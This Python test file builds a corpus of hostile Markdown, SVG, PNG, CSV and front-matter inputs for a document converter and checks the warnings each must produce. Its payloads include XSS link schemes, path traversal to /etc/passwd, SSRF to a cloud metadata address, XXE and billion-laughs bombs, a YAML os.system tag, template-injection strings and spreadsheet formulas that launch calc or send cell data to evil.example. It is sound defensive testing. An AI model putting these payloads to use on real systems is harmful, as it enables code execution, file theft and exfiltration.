"""Every rule of the hostile corpus as inputs made by code, with what each must get.

The corpus's own files follow with `given`, where its folder is found.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from hostile import CANARY, OUTSIDE, Case, png, raw, report, table_of
from hostile_given import given
from hostile_templates import TEMPLATES

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from hostile import Make

_PICTURE = png(8, 8)
_ASCII = "".join(map(chr, range(0x20, 0x7F)))


def cases(corpus: Path | None) -> Iterator[Case]:
    """Yield all cases; those of the given files too where their folder is found."""
    yield from LINKS
    yield from PICTURES
    yield from SIZES
    yield from CHARACTERS
    yield from TABLES
    yield from FRONT_MATTER
    yield from TEMPLATES
    yield from WORDS
    if corpus is not None and corpus.is_dir():
        yield from given(corpus)


_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#115;cript:alert(1)",
    "<java\tscript:alert(1)>",
    "java%73cript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "\\\\\\\\198.51.100.7\\\\share",
    "ms-msdt:/id",
    "ppaction://macro?name=Evil",
    "//evil.example/x",
    "smb://198.51.100.7/share",
    "x-apple:evil",
)

LINKS = (
    Case(
        "01",
        "link targets: schemes in every disguise, everywhere a link can stand",
        report(
            "# 链接 [标题](javascript:alert(1))\n\n"
            + "".join(f"- [点我{i}]({target})\n" for i, target in enumerate(_SCHEMES))
            + "\n| [头](file:///etc/passwd) |\n|---|\n| [格](vbscript:x) |\n\n"
            '注[^1]、<a href="javascript:alert(1)">甲</a>、<javascript:alert(1)>、'
            "[引][r]、[表](#Sheet2!A1)\n\n[^1]: [注](ppaction://hlinkshowjump)\n"
            "\n[r]: javascript:alert(2)\n\n[好](https://example.org/) [信](mailto:a@example.com)\n"
        ),
        codes=f"W120*{len(_SCHEMES) + 7} W121",
        lacks=("Action=", "HYPERLINK("),
        holds=("点我0", "点我14", "甲", "引", "好"),
    ),
)


def _traversal(folder: Path) -> None:
    _secrets(folder)
    (folder / "link.png").symlink_to(folder.parent / OUTSIDE / "secret.png")
    (folder / "linked").symlink_to(folder.parent / OUTSIDE, target_is_directory=True)
    (folder / "ok.png").write_bytes(_PICTURE)
    outside = f"../{OUTSIDE}/secret.png"
    targets = (
        outside,
        f"a/../../{OUTSIDE}/secret.png",
        f"{folder.parent / OUTSIDE / 'secret.png'}",
        f"file://{folder.parent / OUTSIDE / 'secret.png'}",
        "\\\\\\\\198.51.100.7\\\\share\\\\x.png",
        f"..%2f{OUTSIDE}%2fsecret.png",
        f"%2e%2e/{OUTSIDE}/secret.png",
        f"..\\\\{OUTSIDE}\\\\secret.png",
        "link.png",
        "linked/secret.png",
        "~/secret.png",
        "C:/secret.png",
        "/etc/passwd",
        "/dev/zero",
    )
    lines = "".join(f"![图{i}](<{target}>)\n\n" for i, target in enumerate(targets))
    html = f'<img src="../{OUTSIDE}/secret.png" alt="图二十">\n\n![好](ok.png)\n'
    (folder / "r.md").write_text(f"# 图片\n\n{lines}{html}", encoding="utf-8")


def _secrets(folder: Path) -> None:
    outside = folder.parent / OUTSIDE
    (outside / "secret.png").write_bytes(png(9, 9, note=CANARY.encode()))
    (outside / "secret.csv").write_text(f"a,b\n1,{CANARY}\n", encoding="utf-8")


def _data_traversal(folder: Path) -> None:
    _secrets(folder)
    (folder / "link.csv").symlink_to(folder.parent / OUTSIDE / "secret.csv")
    targets = (f"../{OUTSIDE}/secret.csv", "link.csv", "/etc/passwd", "file:///etc/passwd")
    boxes = "".join(f"::: {{.table src={target}}}\n:::\n\n" for target in targets)
    (folder / "r.md").write_text(f"# Data\n\n{boxes}", encoding="utf-8")


def _fakes(folder: Path) -> None:
    whole = png(40, 40)
    (folder / "page.png").write_text("<html><script>alert(1)</script></html>")
    (folder / "cut.png").write_bytes(whole[:-30])
    (folder / "rows.png").write_bytes(png(400, 400, rows=3))
    (folder / "sum.png").write_bytes(whole.replace(b"IDAT", b"IDAT", 1)[:-20] + bytes(20))
    (folder / "cut.jpg").write_bytes(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01")
    (folder / "frame.jpg").write_bytes(
        b"\xff\xd8\xff\xc0\x00\x11\x08\x00\x10\x00\x10\x03\x01\x22\x00"
    )
    (folder / "cut.gif").write_bytes(b"GIF89a\x10\x00\x10\x00")
    (folder / "empty.png").write_bytes(b"")
    (folder / "folder.png").mkdir()
    (folder / "noise.png").write_bytes(png(40, 40, noise=True))
    names = [*sorted(path.name for path in folder.iterdir()), "missing.png", ""]
    lines = "".join(f"![图{i}]({name})\n\n" for i, name in enumerate(names))
    (folder / "r.md").write_text(f"# 图片\n\n{lines}", encoding="utf-8")


_SVG = f"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
 viewBox="0 0 1e9 1e9"><script>alert("{CANARY}")</script><text>&e;</text>
<image xlink:href="http://127.0.0.1:9/x.png"/><image href="../{OUTSIDE}/secret.png"/></svg>"""

_SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" width="1000" height="1000">'
_SVG_REACHING = f"""{_SVG_HEAD}<script>alert("{CANARY}")</script><text>SVG</text>
<foreignObject><iframe src="http://127.0.0.1:9/"/></foreignObject><image href="/etc/passwd"/>
<image href="http://127.0.0.1:9/x.png"/><image href="../{OUTSIDE}/secret.png"/>
<style>@import url(http://127.0.0.1:9/a.css);</style><use href="../{OUTSIDE}/b.svg#a"/></svg>"""
_SVG_BOMB = (
    f'{_SVG_HEAD}<g id="a0"><rect width="1" height="1"/></g>'
    + "".join(
        f'<g id="a{level}">' + f'<use href="#a{level - 1}"/>' * 10 + "</g>"
        for level in range(1, 10)
    )
    + "</svg>"
)

PICTURES = (
    Case(
        "02",
        "pictures that leave the folder: .., absolute, file:, UNC, %-encoded, links on disk",
        _traversal,
        codes="W150*15",
        holds=("图0", "图13"),
        says=(r"r\.md:3:1: warning\[W150\]",),
    ),
    Case(
        "02",
        "data files that leave the folder",
        _data_traversal,
        codes="E190*4",
        check=1,
        export=1,
    ),
    Case(
        "03",
        "remote pictures: metadata service, loopback, beacon",
        report(
            "# Remote\n\n![m](http://169.254.169.254/latest/meta-data/)\n\n"
            "![l](http://127.0.0.1:9/x.png)\n\n![u](//198.51.100.7/x.png)\n\n"
            "![r](https://example.invalid/beacon.png?doc=secret)\n\nin ![p](http://[::1]/p.png)\n"
        ),
        codes="W150*4 W151",
        seconds=(1, 8),
        holds=("[Picture: m]",),
    ),
    Case(
        "04",
        "SVG with an outer entity, script, remote picture, huge view box",
        report("# SVG\n\n![画](x.svg)\n", x__svg=_SVG),
        codes="W150",
        holds=("画",),
        lacks=("root:x:0",),
    ),
    Case(
        "04",
        "SVG with script, web page, pictures elsewhere: shown without them",
        report("# SVG\n\n![画](x.svg)\n", x__svg=_SVG_REACHING),
        codes="W153",
        says=("a picture elsewhere", "script"),
        holds=("画",),
        lacks=("root:x:0",),
    ),
    Case(
        "04",
        "SVG whose groups repeat each other a billion times",
        report("# SVG\n\n![画](x.svg)\n", x__svg=_SVG_BOMB),
        codes="W150",
        says=("draws more than",),
        holds=("画",),
    ),
    Case(
        "05",
        "PNG of 900 megapixels in 110 KB",
        report("# Bomb\n\n![b](x.png)\n", x__png=png(30_000, 30_000)),
        codes="W150",
        says=("30000 x 30000", "TRIPTYCH_MAX_PICTURE_MEGAPIXELS"),
        holds=("b",),
    ),
    Case(
        "05",
        "PNG of 49 megapixels: below the cap, so it is drawn",
        report("# Large\n\n![b](x.png)\n", x__png=png(7_000, 7_000)),
        seconds=(2, 15),
        megabytes=400,
    ),
    Case(
        "06",
        "HTML, cut, empty, missing and other files that are no pictures",
        _fakes,
        codes="W150*10 W501",
        holds=("图0", "图11"),
    ),
)

_N = 2_000
_BOMBS = (
    "*a **a " * _N + "b** b*" * _N,
    "*a_ " * _N,
    "a]" * _N,
    "[a" * _N,
    "[" * _N + "a" + "]" * _N,
    "[ (](" * _N,
    "![[]()" * _N,
    "".join("e" + "`" * x for x in range(1, 250)),
    "<http://a" * _N,
    "http://" * _N,
    "&#x;" * _N,
    "$a " * _N,
    "<b>a</i>" * _N,
    "a **a" * _N,
    "</" + "<!--" * _N,
    "\\" * 20_000,
)


def _long_cells() -> str:
    lines = "<br>".join(f"行{i}" for i in range(3_000))
    return (
        "# Cells\n\n| a | b | c |\n|---|---|---|\n"
        f"| {'字' * 40_000} | {'x' * 60_000} | {lines} |\n| 1 | 2 | 3 |\n"
    )


def _wide(columns: int, rows: int) -> str:
    head = "|" + "".join(f"c{i}|" for i in range(columns))
    rule = "|" + "---|" * columns
    body = "\n".join("|" + "".join(f"{r * i}|" for i in range(columns)) for r in range(rows))
    return f"{head}\n{rule}\n{body}\n"


SIZES = (
    Case(
        "07",
        "3,000 quotes and 500 lists, one in the other",
        report(
            "# Deep\n\n"
            + ">" * 3000
            + " quoted\n\n"
            + "".join("  " * depth + f"- item{depth}\n" for depth in range(500))
        ),
        codes="W180*2",
        holds=("quoted", "item0", "item499"),
    ),
    Case(
        "07",
        "2,000 boxes never closed",
        report("# Deep\n\n" + "::: callout\n" * 2_000 + "inside\n"),
        codes="W160*24 W180",
        holds=("inside",),
    ),
    Case(
        "08",
        "a run of 90,000 asterisks",
        report("# Run\n\n" + "*" * 90_000 + "a\n"),
        codes="W181 W602",
    ),
    Case(
        "08",
        "quadratic emphasis, brackets, backticks, addresses",
        report("# Bombs\n\n" + "\n\n".join(_BOMBS)),
        codes="W181*2",
        seconds=(8, 24),
    ),
    Case(
        "09",
        "3,000 rows of 60 columns",
        report(f"# Huge\n\n{_wide(60, 3000)}"),
        codes="W402",
        seconds=(8, 20),
        megabytes=300,
        says=("3000 rows and 60 columns", "first 10"),
        rules=("the table is whole in the workbook",),
    ),
    Case(
        "10",
        "cells of 40,000 characters, one word of 60,000, 3,000 line breaks",
        report(_long_cells()),
        codes="W502 W602*3",
        seconds=(8, 24),
    ),
    Case(
        "10",
        "a paragraph of 100,000 characters and one heading of 5,000",
        report(f"# {'标题' * 2500}\n\n{'字' * 100_000}\n\n{'x' * 100_000}\n"),
        codes="W602*2",
        seconds=(8, 24),
    ),
    Case(
        "10",
        "20,000 different characters that no face has",
        report("# Private\n\n" + "".join(map(chr, range(0xF0000, 0xF0000 + 20_000)))),
        codes="W301 W602",
        seconds=(6, 16),
    ),
    Case(
        "10",
        "20,000 authors in the head, 4,000 lines of facts under the title",
        report(
            f"---\nauthor: [{'a, ' * 20_000}z]\n---\n\n# Many\n\n"
            + "".join(f"字段{number}：值\n" for number in range(4_000))
        ),
        codes="W602",
        seconds=(6, 16),
        holds=("字段3999",),
    ),
    Case(
        "10",
        "a paragraph with 9,000 notes, 4,000 of which are there",
        report(
            "# Notes\n\nx"
            + "".join(f"[^{number}]" for number in range(9_000))
            + "\n\n"
            + "".join(f"[^{number}]: n\n" for number in range(4_000))
        ),
        codes="W140*5000 W602",
        seconds=(6, 16),
        holds=("[^8999]",),
    ),
)

CHARACTERS = (
    Case(
        "11",
        "control characters, U+FFFE, surrogates in UTF-8, literal _x0041_",
        raw(
            "# Ctl \0\x07\x0b\x1b[31m end\n\nform\x0cfeed \x1b]0;x\x07 \ufffe\uffff \x9b0m\n\n"
            "| a\x0bb | c |\n|---|---|\n| \x02x | `_x0041_` \x0c |\n".encode()
        ),
        codes="W110*3",
        holds=("Ctl", "_x0041_"),
    ),
    Case(
        "11",
        "bytes that are not UTF-8, after 中",
        raw("中文 ok\n\nabc ".encode() + b"\xff\x80\n"),
        codes="E105",
        check=1,
        export=1,
        says=(r"r\.md:3:5: error\[E105\]: byte 15 ",),
    ),
    Case(
        "11",
        "a surrogate in UTF-8",
        raw(b"# a\n\nx \xed\xa0\x80 y\n"),
        codes="E105",
        check=1,
        export=1,
        says=("byte 7 ",),
    ),
    Case(
        "12",
        "directions turned in heading, link, number and code",
        report(
            "# Total \u202e0001\u202c and \u2066x\u2069\n\n[pay \u202egpj.exe\u202c](https://a.example/)"
            "\n\n| n | \u202em\u202c |\n|---|---|\n| \u202e1234\u202c | \u2067-5\u2069 |\n\n"
            "```py\nif a: \u2066# \u2069\u2066x\n```\n"
        ),
        codes="W111*5",
        says=("r.md:1:", "r.md:3:", "r.md:5:", "r.md:7:", "r.md:10:"),
        lacks=("\u202e", "\u202c", "\u2066", "\u2067", "\u2069"),
        rules=("1234 and -5 are numbers",),
    ),
    Case(
        "13",
        "invisible and look-alike characters: twins of headings, parted numbers",
        report(
            "\ufeff# 同名\n\na\u200bb\u200c\u200d\u2060\u00ad\ufeffc\n\n# 同\u200b名\n\n"
            "# СPO\n\n# CPO\n\n# Αlpha α-Fe 5 μm 俄语 Россия\n\n**标\u200b准：**美国 👩\u200d💻\n\n"
            "| a | b |\n|---|---|\n| 1\u00a0234 | １２３ |\n| 1\u200b2 | − 5 |\n"
        ),
        codes="N112*4 W113*2",
        says=(r"r\.md:7:", "Cyrillic", "r.md:11:", "Greek"),
        lacks=("\u200b", "\u2060", "\u00ad"),
        holds=("同名", "СPO"),
    ),
)

_FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    '=WEBSERVICE("http://127.0.0.1:9")',
    "＝1+1",
    "{=1}",
    "%0A=1+1",
    "'=1",
    "+86 10 5555",
)
IDS = ("1-2", "3/4", "1e5", "00123", "110101199003078888", "+86 10 5555", "1_000", "0x1F", "TRUE")


def _csv(*rows: tuple[str, ...]) -> bytes:
    lines = (",".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows)
    return ("\r\n".join(lines) + "\r\n").encode()


_RAGGED = b"a,b,c\r\n1,2,3\r\n1,2\r\n1,2,3,4\r\n"

TABLES = (
    Case(
        "14",
        "texts that look like formulas, in cells, headers, headings, title",
        report(
            "---\ntitle: '=1+1'\nauthor: '@SUM(1)'\n---\n\n# =HYPERLINK(1)\n\n"
            "| =a | +b | n |\n|---|---|---|\n"
            + "".join(
                f"| {cell.replace('|', chr(92) + '|')} | -{i} | {i}% |\n"
                for i, cell in enumerate(_FORMULAS, 1)
            )
        ),
        holds=_FORMULAS[:3],
        rules=("no formula", "-1 and 1 % are numbers"),
    ),
    Case(
        "15",
        "the same from a data file; ids and dates that are none",
        table_of(
            _csv(
                ("name", "=value", "id", "n"),
                *(
                    (str(i), cell, IDS[i % len(IDS)], f"-{i}.5")
                    for i, cell in enumerate(_FORMULAS * 2)
                ),
            )
        ),
        holds=(*_FORMULAS[:3], *IDS),
        rules=("no formula", "ids are text"),
    ),
    Case(
        "16",
        "CSV: a mark of UTF-8, then GBK bytes",
        table_of(b"\xef\xbb\xbfa,b\r\n" + "中文,1\r\n".encode("gbk")),
        codes="E190",
        check=1,
        export=1,
        says=("byte 8 ", "UTF-8"),
    ),
    Case(
        "16",
        "CSV in GBK throughout",
        table_of(
            "编号,名称\r\n00123,中文名称\r\n110101199003078888,第二行的文字\r\n".encode("gbk")
        ),
        codes="W190",
        says=("gb18030",),
        holds=("中文名称", "00123", "110101199003078888"),
    ),
    Case(
        "16",
        "CSV: a quote never closed",
        table_of(b'a,b\n1,"2\n3,4\n'),
        codes="E190",
        check=1,
        export=1,
        says=("line",),
    ),
    Case(
        "16",
        "CSV: rows of other lengths",
        table_of(_RAGGED),
        codes="E190",
        check=1,
        export=1,
        says=("2 rows of d.csv", "lines 3, 4", "“,”"),
    ),
    Case(
        "16",
        "CSV: NUL",
        table_of(b"a,b\n1,\0\n"),
        codes="E190",
        check=1,
        export=1,
        says=("NUL",),
    ),
    Case(
        "16",
        "CSV: lines end with CR alone, semicolons part fields",
        table_of("a;b\r00123;中\r2;x\r".encode()),
        holds=("00123", "中"),
    ),
    Case("16", "CSV: empty", table_of(b""), codes="E190", check=1, export=1, says=("empty",)),
    Case(
        "17",
        "CSV of 20,000 columns",
        table_of(b",".join(b"c%d" % i for i in range(20_000)) + b"\n" + b"1," * 19_999 + b"2\n"),
        codes="E190",
        check=1,
        export=1,
        says=("20,000 columns", "16,384", "TRIPTYCH_MAX_COLUMNS"),
    ),
    Case(
        "17",
        "a Markdown table of 20,000 columns",
        report(f"# Wide\n\n{_wide(20_000, 1)}"),
        codes="E214",
        check=1,
        export=1,
        says=("20,000 columns", "16,384", "TRIPTYCH_MAX_COLUMNS"),
    ),
    Case(
        "17",
        "CSV with a field of 2 MB",
        table_of(b"a,b\n1," + b"x" * 2_000_000 + b"\n2,y\n"),
        codes="E190",
        check=1,
        export=1,
        says=("2,000,000", "TRIPTYCH_MAX_CELL_CHARACTERS"),
    ),
    Case(
        "17",
        "a Markdown table with a cell of 2 MB",
        report(f"# Long\n\n| a | b |\n|---|---|\n| 1 | {'x' * 2_000_000} |\n"),
        codes="E214",
        check=1,
        export=1,
        says=("2,000,000", "TRIPTYCH_MAX_CELL_CHARACTERS"),
    ),
    Case(
        "17",
        "CSV of more rows than a sheet has",
        table_of(b"id,v\n" + b"".join(b"%d,a\n" % i for i in range(1_048_600))),
        codes="W402 W603",
        says=("2 sheets",),
        seconds=(8, 120),
    ),
)

_LAUGHS = "a: &a [x,x,x,x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)
)

FRONT_MATTER = (
    Case(
        "19",
        "TOML front matter with a number of 50,000 digits",
        report(f"+++\ntitle = {'9' * 50_000}\n+++\n\ntext\n"),
        codes="E170",
        check=1,
        export=1,
    ),
    Case(
        "18",
        "front matter: a billion laughs by aliases",
        report(f"---\n{_LAUGHS}title: *j\n---\n\n# t\n\ntext\n"),
        codes="E172*11",
        check=1,
        export=1,
        seconds=(1, 2),
        says=(r"r\.md:2:1: error\[E172\]",),
    ),
    Case(
        "18",
        "front matter of more than 64 KB",
        report("---\ntitle: t\nkeywords: [" + ", ".join(["k"] * 30_000) + "]\n---\n\n# t\n\nx\n"),
        codes="E173",
        check=1,
        export=1,
        says=("65536",),
    ),
    Case(
        "19",
        "front matter: tags, twice the same key, paths, unknown keys",
        report(
            '---\ntitle: !!python/object/apply:os.system ["touch pwned"]\nauthor: [no, 007, ~]\n'
            "version: 1.10\ntitle: dup\n<<: {x: 1}\noutput: ../../evil\ntemplate: /etc/passwd\n"
            "---\n\n# t\n\ntext\n"
        ),
        codes="E171 E172 W174 W175*3",
        check=1,
        export=1,
    ),
    Case(
        "19",
        "front matter: strings stay strings; --- in the body is a rule",
        report(
            "---\ntitle: 1.10\nauthor: [no, 007, 2025-10-20, 1e3]\nsubtitle: yes\n---\n\n# t\n\n"
            "text\n\n---\nnot: [front matter\n---\n\nend\n"
        ),
        holds=("1.10", "no", "007", "1e3", "yes", "not: [front matter"),
    ),
    Case(
        "19",
        "TOML front matter with a date, a table and a bad value",
        report("+++\ntitle = 1\n[x]\ny = 2020-13-45\n+++\n\n# t\n\ntext\n"),
        codes="E170",
        check=1,
        export=1,
    ),
)


def _called(name: str) -> Make:
    def make(folder: Path) -> None:
        (folder / name).write_text("# t\n\nx\n", encoding="utf-8")

    return make


_CELL = _ASCII.replace("|", "").replace("`", "")

_CODE = (
    "{{7\\*7}} {% for x in y %} #eval(read(“/etc/passwd”)) $\\input{/etc/passwd}$ "
    "\\\\write18{touch pwned} #{x} <%= 7\\*7 %> ${7\\*7} @{x} `=1+1`"
)

WORDS = (
    Case(
        "24",
        "spans of HTML cells that make millions of cells of 4 KB",
        report("<table>" + "<tr><td rowspan=65534 colspan=1000>x" * 100 + "</table>\n"),
        codes="E205",
        check=1,
        export=1,
    ),
    Case(
        "24",
        "raw HTML: script, iframe, style, object, attachment, hidden text, comment",
        report(
            "# HTML\n\na <script>alert(1)</script><iframe src='http://127.0.0.1:9/'></iframe> b"
            "\n\n<style>@import url(http://127.0.0.1:9/)</style>\n\n<!-- secret-comment -->\n\n"
            f"<link rel=attachment href='../{OUTSIDE}/secret.csv'> c "
            "<img src=file:///etc/passwd alt=bild> H<sub>2</sub>O<br>x<sup>2</sup>\n\n"
            "<object data='file:///etc/passwd'>gone</object> d <span style='display:none'>hid"
            "den</span>\n\n<details><summary>more</summary>inner</details>\n\n"
            "<table><tr><th>h</th></tr><tr><td onclick='x()'>cell</td></tr></table>\n"
        ),
        codes="N133 W131*5 W151",
        holds=("bild", "more", "inner", "cell", "hidden"),
        lacks=("secret-comment", "alert(1)", "gone", "@import", "onclick"),
    ),
    Case(
        "25",
        "titles that are no names of files, sheets or tables",
        report(
            '---\ntitle: "../../../tmp/evil: <|>?*"\n---\n\n'
            + "".join(
                f"# {name}\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
                for name in (
                    "History",
                    "历史",
                    "a/b\\c?*[d]:e",
                    "'引号'",
                    "CON",
                    "x" * 300,
                    "长标题" * 20 + "一",
                    "长标题" * 20 + "二",
                    "SHEET",
                    "sheet",
                    "",
                    "😀" * 20,
                    "..",
                    "R1C1",
                    "A1",
                    "Print_Area",
                )
            )
        ),
        rules=("names are legal",),
        holds=("History", "../../../tmp/evil"),
    ),
    *(
        Case("25", f"a report called {name!r}", _called(name), source=f"./{name}")
        for name in ("CON.md", "-rf.md", "=cmd.md", "a b;touch pwned.md", "..md", "%2e%2e.md")
    ),
    Case(
        "25",
        "a report called as its own document: the source is not overwritten",
        _called("r.pdf"),
        source="r.pdf",
    ),
    Case(
        "26",
        "text that is code to other engines; every character of ASCII",
        report(
            f"# {_CODE}\n\n{_CODE}\n\n```{{=openxml}}\n<w:p>&x;</w:p>\n```\n\n"
            '```mermaid\ngraph TD; A-->B; click A href "javascript:alert(1)"\n```\n\n'
            f"```\n{_ASCII}\n```\n\n| a |\n|---|\n| `{_CELL}` |\n"
        ),
        codes="W154",
        holds=("{{7*7}}", "<%=7*7%>", "<w:p>&x;</w:p>", _ASCII),
        lacks=("root:x:0",),
    ),
    Case(
        "27",
        "footnotes in circles, twice, missing; links by reference many times",
        report(
            "# Notes\n\na[^1] b[^2]\n\n[^1]: see [^2] and [^1]\n[^2]: see [^1]\n\n"
            "[^dup]: one\n[^dup]: two\n\n[^missing]\n\n"
            f'[a]: https://example.org/{"p" * 1900} "{"t" * 500}"\n\n' + "[a] " * 9_000
        ),
        codes="W120*7959 W140 W141 W142",
        seconds=(8, 30),
        rules=("no file is 20 times its source",),
    ),
    Case(
        "28",
        "dollars that are money",
        report(
            "# Money\n\n$5 and $10, US$3.5–US$4, $1,000 (or 2$ each), $20M vs $30M; 价格$5、$6。"
            "\n\nPrice $5$ and $ x $ and $x$1, mathematics $e=mc^2$.\n\n"
            "| $a | b$ |\n|---|---|\n| $5 | $6 |\n"
        ),
        holds=("$5and$10", "$20Mvs$30M", "价格$5、$6"),
    ),
)
